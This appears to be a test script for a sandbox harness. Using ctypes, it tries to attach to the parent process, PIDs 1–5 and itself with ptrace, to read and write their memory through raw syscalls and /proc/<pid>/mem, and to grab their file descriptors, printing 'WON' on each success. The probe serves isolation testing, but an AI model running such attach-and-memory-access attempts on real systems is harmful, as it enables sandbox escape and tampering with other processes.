# /// attack
# says = "ran to its end"
# ///
"""Attach to the server, to the first process and to itself; read and write their memory."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(64)
here, there = Piece(ctypes.addressof(buffer), 64), Piece(id(None), 64)
for pid in (os.getppid(), 1, 2, 3, 4, 5, os.getpid(), os.getpid() - 1):
    for request in (0, 16, 0x4206):
        if libc.ptrace(request, pid, None, None) == 0:
            print("WON: traced", request, pid)
    for number in (310, 311):
        if libc.syscall(number, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            print("WON: memory of", pid)
    for number, words in (
        (434, (pid, 0)),
        (312, (os.getpid(), pid, 0, 0, 0)),
        (438, (3, 3, 0)),
        (440, (3, None, 0, 20, 0)),
    ):
        if libc.syscall(number, *words) >= 0:
            print("WON: call", number, pid)
    try:
        open(f"/proc/{pid}/mem", "r+b")
        print("WON: memory file of", pid)
    except OSError:
        pass
raise RuntimeError("the attack ran to its end")
